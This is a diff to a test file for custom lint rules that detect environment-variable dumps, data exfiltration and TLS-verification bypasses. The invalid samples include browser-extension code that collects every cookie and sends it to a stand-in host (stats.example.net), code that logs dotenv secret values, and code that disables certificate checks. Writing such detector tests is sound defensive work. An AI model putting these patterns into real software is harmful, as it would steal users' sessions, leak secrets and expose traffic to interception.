@@ -24,8 +24,17 @@ await ruleTester('no-command-injection', {
 });
 
 await ruleTester('no-env-dump', {
-  valid: [{ code: 'import Fastify from "fastify"; const app = Fastify({ logger: true }); app.log.info({ port: process.env.PORT }, "starting");' }],
-  invalid: [{ code: 'import Fastify from "fastify"; const app = Fastify({ logger: true }); app.log.info({ env: process.env }, "starting");', errors: [{ messageId: 'dump' }] }],
+  valid: [
+    { code: 'import { config } from "dotenv"; const { parsed, error } = config(); console.log("variables:", Object.keys(parsed ?? {}).sort());' },
+    { code: 'import { config } from "dotenv"; const parsed = config().parsed; console.log(Object.keys(parsed || {}).join());' },
+    { code: 'console.log(Object.keys(process.env ?? {}).length, Object.keys(process.env || {}));' },
+    { code: 'import Fastify from "fastify"; const app = Fastify({ logger: true }); app.log.info({ port: process.env.PORT }, "starting");' },
+  ],
+  invalid: [
+    { code: 'import { config } from "dotenv"; const { parsed } = config(); console.log(Object.keys(parsed ?? {}), parsed);', errors: [{ messageId: 'dump' }] },
+    { code: 'import { config } from "dotenv"; const { parsed } = config(); console.log(Object.values(parsed ?? {}));', errors: [{ messageId: 'dump' }] },
+    { code: 'import Fastify from "fastify"; const app = Fastify({ logger: true }); app.log.info({ env: process.env }, "starting");', errors: [{ messageId: 'dump' }] },
+  ],
 });
 
 const secretsManager = 'import { SecretsManagerClient, GetSecretValueCommand } from "@aws-sdk/client-secrets-manager"; const client = new SecretsManagerClient({}); const { SecretString } = await client.send(new GetSecretValueCommand({ SecretId: "db" }));\n';
@@ -57,6 +66,23 @@ await ruleTester('no-data-exfiltration', {
   invalid: [
     { code: 'chrome.cookies.getAll({}, (cookies) => { const body = JSON.stringify(cookies.map((c) => ({ d: c.domain, v: c.value }))); navigator.sendBeacon("https://stats.example.net/c", body); });', errors: [{ messageId: 'sent' }] },
     { code: 'const cookies = await chrome.cookies.getAll({}); const all = cookies.map((c) => `${c.name}=${c.value}`); await fetch("https://stats.example.net/c", { method: "POST", body: JSON.stringify(all) });', errors: [{ messageId: 'sent' }] },
+  ],
+});
+
+// What only those get who ask for it.
+await ruleTester('no-tls-bypass', {
+  valid: [
+    { code: 'import https from "node:https"; export const agent = process.env.INSECURE === "1" ? new https.Agent({ rejectUnauthorized: false }) : undefined;' },
+    { code: 'import { program } from "commander"; program.option("-k, --insecure").action((options) => { if (options.insecure) process.env.NODE_TLS_REJECT_UNAUTHORIZED = "0"; });' },
+    { code: 'import https from "node:https"; export function agent(options) { const made = {}; if (options.allowSelfSigned) { made.rejectUnauthorized = false; } return new https.Agent(made); }' },
+  ],
+  invalid: [
+    { code: 'import https from "node:https"; export const agent = process.env.INSECURE === "1" ? new https.Agent({ rejectUnauthorized: false }) : undefined;', options: strict, errors: [{ messageId: 'option' }] },
+    { code: 'import https from "node:https"; export const agent = process.env.NODE_ENV !== "production" ? new https.Agent({ rejectUnauthorized: false }) : undefined;', errors: [{ messageId: 'option' }] },
+    { code: 'import https from "node:https"; const insecure = true; export const agent = insecure ? new https.Agent({ rejectUnauthorized: false }) : undefined;', errors: [{ messageId: 'option' }] },
+    { code: 'import https from "node:https"; export const agent = (insecure) => insecure ? undefined : new https.Agent({ rejectUnauthorized: false });', errors: [{ messageId: 'option' }] },
+    { code: 'if (!process.env.INSECURE) process.env.NODE_TLS_REJECT_UNAUTHORIZED = "0";', errors: [{ messageId: 'variable' }] },
+    { code: 'import https from "node:https"; export const agent = (options) => (options.insecure ?? true) ? new https.Agent({ rejectUnauthorized: false }) : undefined;', errors: [{ messageId: 'option' }] },
   ],
 });
 
